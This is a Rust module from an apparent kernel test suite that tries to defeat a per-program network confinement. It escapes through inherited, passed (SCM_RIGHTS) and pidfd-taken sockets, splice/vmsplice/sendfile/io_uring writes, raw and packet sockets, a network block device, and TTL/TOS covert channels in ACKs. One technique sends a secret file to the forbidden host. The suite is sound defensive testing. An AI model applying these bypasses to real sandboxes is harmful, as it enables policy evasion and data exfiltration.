//! Sockets that another program connected: inherited, passed, taken, accepted. The other program is a copy of the
//! attacker that no policy names.
#![expect(unsafe_code, reason = "descriptors from elsewhere, and calls that no library makes safe")]

use std::ffi::c_void;
use std::io::Read;
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::net::UnixStream;
use std::os::unix::process::ExitStatusExt as _;
use std::process::{Command, Stdio};

use bfp_kernel_tests::attack::MARK;

use crate::Technique;
use crate::aim::Aim;
use crate::families::{self, anywhere};
use crate::rerouted::packet;
use crate::ring;
use crate::sys::{self, Message, Name, Refused};

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("inherited-socket", inherited),
    ("inherited-socket-by-splice", inherited_splice),
    ("inherited-socket-then-its-owner", inherited_then_its_owner),
    ("inherited-socket-by-sendfile", inherited_sendfile),
    ("inherited-socket-by-write", inherited_write),
    ("inherited-socket-by-ring", inherited_ring),
    ("inherited-socket-by-registered-file", inherited_registered),
    ("inherited-socket-by-vmsplice", inherited_vmsplice),
    ("inherited-mptcp-socket", inherited_mptcp),
    ("inherited-packet-socket", inherited_packet_socket),
    ("inherited-raw-socket", inherited_raw_socket),
    ("passed-socket", passed),
    ("taken-socket", taken),
    ("accepted-connection", accepted),
    ("acknowledgements-by-ttl", |aim| acknowledgements("acknowledgements-by-ttl", aim, set_time_to_live)),
    ("acknowledgements-by-tos", |aim| acknowledgements("acknowledgements-by-tos", aim, set_type_of_service)),
    ("socket-of-a-block-device", block_device),
    ("hold-a-connection", hold_a_connection),
];

/// The unlisted program that passes sockets on. The suite installs it there.
const STRANGER: &str = "/usr/bin/stranger";

/// The variable in which the second half of an attack finds its socket.
pub(crate) const INHERITED: &str = "BFP_INHERITED";

/// The variable in which it finds the number that its parent has for a descriptor.
const PARENTS: &str = "BFP_OF_THE_PARENT";

/// The socket that was passed on, if there is one.
fn handed_on() -> Option<OwnedFd> {
    let number: RawFd = std::env::var(INHERITED).ok()?.parse().ok()?;
    // SAFETY: the first half made the descriptor for this and nothing else uses it.
    Some(unsafe { OwnedFd::from_raw_fd(number) })
}

/// The unlisted program connects, and executes the attacker over itself. In the first half this process is the
/// attacker: it starts the unlisted program.
fn with_inherited(name: &str, aim: &Aim, then: fn(&OwnedFd) -> Result<(), Refused>) -> Result<(), Refused> {
    with_inherited_and_kept(name, aim, then, |_| Ok(()))
}

/// As [`with_inherited`]; if the attacker gets through, the unlisted program uses the socket once more.
fn with_inherited_and_kept(
    name: &str,
    aim: &Aim,
    then: fn(&OwnedFd) -> Result<(), Refused>,
    at_last: fn(&OwnedFd) -> Result<(), Refused>,
) -> Result<(), Refused> {
    if let Some(socket) = handed_on() {
        return then(&socket);
    }
    let own = std::env::current_exe().map_err(Refused::io("readlink"))?;
    if own != std::path::Path::new(STRANGER) {
        // Children inherit a confinement, so the suite starts the unlisted program first.
        return Err(Refused::new("first half", libc::EINVAL));
    }
    let socket = sys::open(aim)?;
    sys::connect(&socket, &Name::of(aim.forbidden))?;
    hand_on(&socket, name, aim)?;
    at_last(&socket)
}

/// The second half: the attacker, with a socket of the unlisted program.
fn hand_on(socket: &OwnedFd, name: &str, aim: &Aim) -> Result<(), Refused> {
    let attacker = std::env::var("BFP_ATTACKER").map_err(|_| Refused::new("environment", libc::ENOENT))?;
    run_with(socket, &attacker, name, aim)
}

fn run_with(socket: &OwnedFd, attacker: &str, name: &str, aim: &Aim) -> Result<(), Refused> {
    // SAFETY: takes numbers; the copy is not closed at exec.
    let copy = sys::check("dup", unsafe { libc::fcntl(socket.as_raw_fd(), libc::F_DUPFD, 100) }.into())?;
    second_half(Command::new(attacker).env(INHERITED, copy.to_string()), name, aim)
}

/// Runs the attacker for its half.
fn second_half(command: &mut Command, name: &str, aim: &Aim) -> Result<(), Refused> {
    let command = command.arg(name).args(aim.words()).stdin(Stdio::null());
    let ended = command.output().map_err(Refused::io("execve"))?;
    if ended.status.signal() == Some(libc::SIGKILL) {
        return Err(Refused::killed("execve"));
    }
    let said = String::from_utf8_lossy(&ended.stdout).trim().to_owned();
    match said.as_str() {
        "ok" => Ok(()),
        said if said.ends_with("EPERM") => Err(Refused::new("second half", libc::EPERM)),
        _ => Err(Refused::new("second half", libc::EINVAL)),
    }
}

fn inherited(aim: &Aim) -> Result<(), Refused> {
    with_inherited("inherited-socket", aim, sys::send)
}

fn inherited_write(aim: &Aim) -> Result<(), Refused> {
    with_inherited("inherited-socket-by-write", aim, |socket| {
        // SAFETY: the bytes are alive and as long as is said.
        let written = unsafe { libc::write(socket.as_raw_fd(), sys::MESSAGE.as_ptr().cast(), sys::MESSAGE.len()) };
        sys::check("write", written as i64).map(drop)
    })
}

fn inherited_splice(aim: &Aim) -> Result<(), Refused> {
    with_inherited("inherited-socket-by-splice", aim, |socket| splice(socket, libc::SPLICE_F_MOVE))
}

/// The attacker leaves data in the socket, with more to follow; the unlisted program that connected it sends the rest.
fn inherited_then_its_owner(aim: &Aim) -> Result<(), Refused> {
    let leave = |socket: &OwnedFd| splice(socket, libc::SPLICE_F_MOVE | libc::SPLICE_F_MORE);
    with_inherited_and_kept("inherited-socket-then-its-owner", aim, leave, sys::send)
}

/// Moves the message from a pipe into a socket.
fn splice(socket: &OwnedFd, flags: u32) -> Result<(), Refused> {
    let (reading, writing) = std::io::pipe().map_err(Refused::io("pipe"))?;
    // SAFETY: the bytes are alive and as long as is said; the rest are numbers.
    unsafe {
        let written = libc::write(writing.as_raw_fd(), sys::MESSAGE.as_ptr().cast(), sys::MESSAGE.len());
        sys::check("write", written as i64)?;
        let none = std::ptr::null_mut();
        let length = sys::MESSAGE.len();
        let moved = libc::splice(reading.as_raw_fd(), none, socket.as_raw_fd(), none, length, flags);
        sys::check("splice", moved as i64).map(drop)
    }
}

fn inherited_sendfile(aim: &Aim) -> Result<(), Refused> {
    with_inherited("inherited-socket-by-sendfile", aim, |socket| {
        let secret = std::fs::File::open("/etc/bfp-secret").map_err(Refused::io("open"))?;
        // SAFETY: takes numbers.
        let sent = unsafe { libc::sendfile(socket.as_raw_fd(), secret.as_raw_fd(), std::ptr::null_mut(), 4096) };
        sys::check("sendfile", sent as i64).map(drop)
    })
}

fn inherited_ring(aim: &Aim) -> Result<(), Refused> {
    with_inherited("inherited-socket-by-ring", aim, ring::send)
}

fn inherited_registered(aim: &Aim) -> Result<(), Refused> {
    with_inherited("inherited-socket-by-registered-file", aim, ring::send_registered)
}

/// Pages of this process, moved into a pipe, copied to another one and moved on into the socket.
fn inherited_vmsplice(aim: &Aim) -> Result<(), Refused> {
    with_inherited("inherited-socket-by-vmsplice", aim, |socket| {
        let (first, into_first) = std::io::pipe().map_err(Refused::io("pipe"))?;
        let (second, into_second) = std::io::pipe().map_err(Refused::io("pipe"))?;
        let (none, length) = (std::ptr::null_mut(), sys::MESSAGE.len());
        let part = libc::iovec { iov_base: sys::MESSAGE.as_ptr().cast_mut().cast(), iov_len: length };
        // SAFETY: the bytes are alive, as long as is said, and nobody writes them; the rest are numbers.
        unsafe {
            sys::check("vmsplice", libc::vmsplice(into_first.as_raw_fd(), &raw const part, 1, 0) as i64)?;
            sys::check("tee", libc::tee(first.as_raw_fd(), into_second.as_raw_fd(), length, 0) as i64)?;
            let moved = libc::splice(second.as_raw_fd(), none, socket.as_raw_fd(), none, length, 0);
            sys::check("splice", moved as i64).map(drop)
        }
    })
}

/// A socket that the unlisted program creates and leaves unconnected.
pub(crate) fn with_made(
    name: &str,
    aim: &Aim,
    make: impl FnOnce() -> Result<OwnedFd, Refused>,
    then: impl FnOnce(&OwnedFd) -> Result<(), Refused>,
) -> Result<(), Refused> {
    match handed_on() {
        Some(socket) => then(&socket),
        None => hand_on(&make()?, name, aim),
    }
}

fn inherited_mptcp(aim: &Aim) -> Result<(), Refused> {
    let make = || {
        let socket = sys::socket(aim.family(), libc::SOCK_STREAM, families::IPPROTO_MPTCP)?;
        sys::connect(&socket, &Name::of(aim.forbidden)).map(|()| socket)
    };
    with_made("inherited-mptcp-socket", aim, make, sys::send)
}

fn inherited_packet_socket(aim: &Aim) -> Result<(), Refused> {
    let make = || sys::socket(libc::AF_PACKET, libc::SOCK_DGRAM, 0);
    with_made("inherited-packet-socket", aim, make, |socket| families::send_packet(socket, aim))
}

fn inherited_raw_socket(aim: &Aim) -> Result<(), Refused> {
    let make = || sys::socket(aim.family(), libc::SOCK_RAW, libc::IPPROTO_RAW);
    let mut granted = aim.granted;
    granted.set_port(0);
    let send = |socket: &OwnedFd| sys::sendto(socket, &packet(aim), 0, &Name::of(granted));
    with_made("inherited-raw-socket", aim, make, send)
}

/// Where the two programs meet. One attack runs at a time.
const MEETING: &str = "/tmp/bfp-meeting";

/// The unlisted program connects and passes the socket over a Unix socket to the attacker, which it starts.
fn passed(aim: &Aim) -> Result<(), Refused> {
    with_passed("passed-socket", aim, || connected(aim), sys::send)
}

fn connected(aim: &Aim) -> Result<OwnedFd, Refused> {
    let socket = sys::open(aim)?;
    sys::connect(&socket, &Name::of(aim.forbidden)).map(|()| socket)
}

/// The unlisted program makes a descriptor and passes it over a Unix socket to the attacker, which it starts.
pub(crate) fn with_passed(
    name: &str,
    aim: &Aim,
    make: impl FnOnce() -> Result<OwnedFd, Refused>,
    then: impl FnOnce(&OwnedFd) -> Result<(), Refused>,
) -> Result<(), Refused> {
    if std::env::var_os(INHERITED).is_some() {
        let meeting = UnixStream::connect(MEETING).map_err(Refused::io("connect"))?;
        return then(&receive_descriptor(&meeting)?);
    }
    let _old = std::fs::remove_file(MEETING);
    let listener = std::os::unix::net::UnixListener::bind(MEETING).map_err(Refused::io("bind"))?;
    let permissions = std::os::unix::fs::PermissionsExt::from_mode(0o777);
    std::fs::set_permissions(MEETING, permissions).map_err(Refused::io("chmod"))?;
    let made = make()?;
    let handing = std::thread::spawn(move || -> Result<OwnedFd, Refused> {
        let (meeting, _) = listener.accept().map_err(Refused::io("accept"))?;
        let descriptor = made.as_raw_fd().to_ne_bytes();
        let control = sys::control(libc::SOL_SOCKET, libc::SCM_RIGHTS, &descriptor);
        sys::sendmsg(&meeting.into(), &Message::new(None, &control), 0)?;
        Ok(made)
    });
    let attacker = std::env::var("BFP_ATTACKER").map_err(|_| Refused::new("environment", libc::ENOENT))?;
    let nothing = sys::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0)?;
    let outcome = run_with(&nothing, &attacker, name, aim);
    outcome.and(handing.join().unwrap_or_else(|_| Err(Refused::new("thread", 0))).map(drop))
}

fn receive_descriptor(meeting: &UnixStream) -> Result<OwnedFd, Refused> {
    let (mut bytes, mut control) = ([0u8; 64], [0u8; 64]);
    let mut part = libc::iovec { iov_base: bytes.as_mut_ptr().cast::<c_void>(), iov_len: bytes.len() };
    // SAFETY: what the header points to is alive and as long as is said; a descriptor that arrives is ours.
    unsafe {
        let mut header: libc::msghdr = std::mem::zeroed();
        header.msg_iov = &raw mut part;
        header.msg_iovlen = 1;
        header.msg_control = control.as_mut_ptr().cast();
        header.msg_controllen = control.len() as _;
        sys::check("recvmsg", libc::recvmsg(meeting.as_raw_fd(), &raw mut header, 0) as i64)?;
        let first = libc::CMSG_FIRSTHDR(&raw const header);
        if first.is_null() {
            return Err(Refused::new("recvmsg", libc::ENOENT));
        }
        Ok(OwnedFd::from_raw_fd(libc::CMSG_DATA(first).cast::<RawFd>().read_unaligned()))
    }
}

/// The attacker takes the socket of its parent, an unlisted program, with pidfd_getfd.
fn taken(aim: &Aim) -> Result<(), Refused> {
    with_taken("taken-socket", aim, || connected(aim), sys::send)
}

/// The attacker takes a descriptor of its parent, an unlisted program, which does not leave it open at exec.
pub(crate) fn with_taken(
    name: &str,
    aim: &Aim,
    make: impl FnOnce() -> Result<OwnedFd, Refused>,
    then: impl FnOnce(&OwnedFd) -> Result<(), Refused>,
) -> Result<(), Refused> {
    if let Ok(number) = std::env::var(PARENTS) {
        let parent = std::os::unix::process::parent_id();
        let number: RawFd = number.parse().map_err(|_| Refused::new("environment", libc::EINVAL))?;
        // SAFETY: takes numbers; the descriptors are new.
        let taken = unsafe {
            let pidfd = sys::check("pidfd_open", libc::syscall(libc::SYS_pidfd_open, parent, 0))?;
            let pidfd = OwnedFd::from_raw_fd(pidfd as RawFd);
            let taken = libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), number, 0);
            OwnedFd::from_raw_fd(sys::check("pidfd_getfd", taken)? as RawFd)
        };
        return then(&taken);
    }
    let made = make()?;
    let attacker = std::env::var("BFP_ATTACKER").map_err(|_| Refused::new("environment", libc::ENOENT))?;
    let mut command = Command::new(attacker);
    command.env(PARENTS, made.as_raw_fd().to_string());
    second_half(&mut command, name, aim)
}

/// The far end of the connection that the attacker accepts: an unlisted program's socket with the forbidden address.
pub(crate) fn connect_from_forbidden(aim: &Aim, port: u16) -> Result<OwnedFd, Refused> {
    while !std::path::Path::new(MEETING).exists() {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let socket = sys::open(aim)?;
    sys::set(&socket, libc::SOL_IP, libc::IP_FREEBIND, &1i32)?;
    sys::bind(&socket, &Name::of(SocketAddr::new(aim.forbidden.ip(), 0)))?;
    sys::connect(&socket, &Name::of(SocketAddr::new(aim.granted.ip(), port)))?;
    Ok(socket)
}

/// The attacker listens, and reports it to the far end.
pub(crate) fn accept(aim: &Aim, port: u16) -> Result<OwnedFd, Refused> {
    let listener = TcpListener::bind(anywhere(aim, port)).map_err(Refused::io("bind"))?;
    std::fs::write(MEETING, "ready").map_err(Refused::io("write"))?;
    listener.accept().map(|(connection, _)| connection.into()).map_err(Refused::io("accept"))
}

/// The first half: a far end, which does something with its connection, and the attacker.
pub(crate) fn with_far_end(
    name: &str,
    aim: &Aim,
    far: impl FnOnce(Aim) -> Result<(), Refused> + Send + 'static,
) -> Result<(), Refused> {
    let _old = std::fs::remove_file(MEETING);
    let victim = aim.clone();
    let far = std::thread::spawn(move || far(victim));
    let attacker = std::env::var("BFP_ATTACKER").map_err(|_| Refused::new("environment", libc::ENOENT))?;
    let nothing = sys::socket(libc::AF_UNIX, libc::SOCK_STREAM, 0)?;
    let outcome = run_with(&nothing, &attacker, name, aim);
    outcome.and(far.join().unwrap_or_else(|_| Err(Refused::new("thread", 0))))
}

/// The attacker listens, a program at the forbidden address connects, and gets the message as an answer.
fn accepted(aim: &Aim) -> Result<(), Refused> {
    const PORT: u16 = 4430;
    if std::env::var_os(INHERITED).is_some() {
        return sys::send(&accept(aim, PORT)?);
    }
    with_far_end("accepted-connection", aim, |victim| {
        // The sniffer determines whether something arrives.
        let _silence = TcpStream::from(connect_from_forbidden(&victim, PORT)?).read(&mut [0; 16]);
        Ok(())
    })
}

/// As [`accepted`], but the message is in the headers of the kernel's own segments: each received byte is acknowledged
/// by a segment without data.
fn acknowledgements(name: &str, aim: &Aim, put: fn(&OwnedFd, &Aim) -> Result<(), Refused>) -> Result<(), Refused> {
    const PORT: u16 = 4432;
    if std::env::var_os(INHERITED).is_some() {
        let connection = accept(aim, PORT)?;
        put(&connection, aim)?;
        loop {
            // Quick acknowledgement, which the kernel resets each time.
            sys::set(&connection, libc::IPPROTO_TCP, libc::TCP_QUICKACK, &1i32)?;
            let mut byte = [0u8];
            // SAFETY: one byte, which is alive.
            let came = unsafe { libc::recv(connection.as_raw_fd(), byte.as_mut_ptr().cast(), 1, 0) };
            if sys::check("recv", came as i64)? == 0 {
                return Ok(());
            }
        }
    }
    with_far_end(name, aim, |victim| {
        let connection = connect_from_forbidden(&victim, PORT)?;
        for _ in 0..5 {
            std::thread::sleep(std::time::Duration::from_millis(20));
            sys::send_bytes(&connection, b"x")?;
        }
        Ok(())
    })
}

fn set_time_to_live(connection: &OwnedFd, aim: &Aim) -> Result<(), Refused> {
    match aim.forbidden.ip() {
        IpAddr::V4(_) => sys::set(connection, libc::IPPROTO_IP, libc::IP_TTL, &i32::from(MARK)),
        IpAddr::V6(_) => sys::set(connection, libc::IPPROTO_IPV6, libc::IPV6_UNICAST_HOPS, &i32::from(MARK)),
    }
}

fn set_type_of_service(connection: &OwnedFd, aim: &Aim) -> Result<(), Refused> {
    match aim.forbidden.ip() {
        IpAddr::V4(_) => sys::set(connection, libc::IPPROTO_IP, libc::IP_TOS, &i32::from(MARK)),
        IpAddr::V6(_) => sys::set(connection, libc::IPPROTO_IPV6, libc::IPV6_TCLASS, &i32::from(MARK)),
    }
}

/// As [`accepted`], but the connections are given to a network block device: the kernel sends what is written to it,
/// and repeats what fails on one connection on another one, from a thread of its own.
fn block_device(aim: &Aim) -> Result<(), Refused> {
    const PORT: u16 = 4431;
    /// The first one fails by the attacker's own sends.
    const CONNECTIONS: usize = 4;
    if std::env::var_os(INHERITED).is_some() {
        let listener = TcpListener::bind(anywhere(aim, PORT)).map_err(Refused::io("bind"))?;
        std::fs::write(MEETING, "ready").map_err(Refused::io("write"))?;
        let connections = (0..CONNECTIONS).map(|_| listener.accept().map(|(connection, _)| OwnedFd::from(connection)));
        let connections: Vec<_> = connections.collect::<Result<_, _>>().map_err(Refused::io("accept"))?;
        return write_to_block_device(&connections);
    }
    with_far_end("socket-of-a-block-device", aim, |victim| {
        let connect = |_| connect_from_forbidden(&victim, PORT);
        let _sockets = (0..CONNECTIONS).map(connect).collect::<Result<Vec<_>, _>>()?;
        // The sniffer determines whether something arrives.
        std::thread::sleep(std::time::Duration::from_secs(3));
        Ok(())
    })
}

fn write_to_block_device(connections: &[OwnedFd]) -> Result<(), Refused> {
    // include/uapi/linux/nbd.h
    const SET_SOCK: libc::c_ulong = 0xab00;
    const SET_BLOCK_SIZE: libc::c_ulong = 0xab01;
    const DO_IT: libc::c_ulong = 0xab03;
    const CLEAR_SOCK: libc::c_ulong = 0xab04;
    const SET_SIZE_BLOCKS: libc::c_ulong = 0xab07;
    const DISCONNECT: libc::c_ulong = 0xab08;
    const SET_FLAGS: libc::c_ulong = 0xab0a;
    const HAS_FLAGS_AND_MANY_CONNECTIONS: libc::c_ulong = 1 | 1 << 8;
    const DEVICE: &str = "/dev/nbd0";
    let device = std::fs::OpenOptions::new().read(true).write(true).open(DEVICE).map_err(Refused::io("open"))?;
    let fd = device.as_raw_fd();
    let ask = move |request: libc::c_ulong, number: libc::c_ulong| {
        // SAFETY: these requests take numbers.
        sys::check("ioctl", unsafe { libc::ioctl(fd, request, number) }.into())
    };
    ask(SET_BLOCK_SIZE, 4096)?;
    ask(SET_SIZE_BLOCKS, 256)?;
    for connection in connections {
        ask(SET_SOCK, connection.as_raw_fd() as libc::c_ulong)?;
    }
    ask(SET_FLAGS, HAS_FLAGS_AND_MANY_CONNECTIONS)?;
    let serving = std::thread::spawn(move || ask(DO_IT, 0));
    let moment = std::time::Duration::from_millis(300);
    std::thread::sleep(moment);
    let writing = std::thread::spawn(move || -> std::io::Result<()> {
        let mut file = std::fs::OpenOptions::new().write(true).open(DEVICE)?;
        std::io::Write::write_all(&mut file, &sys::MESSAGE.repeat(512))?;
        file.sync_all()
    });
    std::thread::sleep(moment * 5);
    // Ends requests that still wait for an answer.
    ask(DISCONNECT, 0)?;
    ask(CLEAR_SOCK, 0)?;
    let _failed = writing.join();
    let _ended = serving.join();
    Ok(())
}

/// Not an attack: connects and waits for the end of its input, so that other programs can try to take the socket.
/// Prints its process ID and the descriptor.
fn hold_a_connection(aim: &Aim) -> Result<(), Refused> {
    let socket = sys::open(aim)?;
    sys::connect(&socket, &Name::of(aim.forbidden))?;
    println!("{} {}", std::process::id(), socket.as_raw_fd());
    let _ended = std::io::stdin().read(&mut [0; 1]);
    Ok(())
}
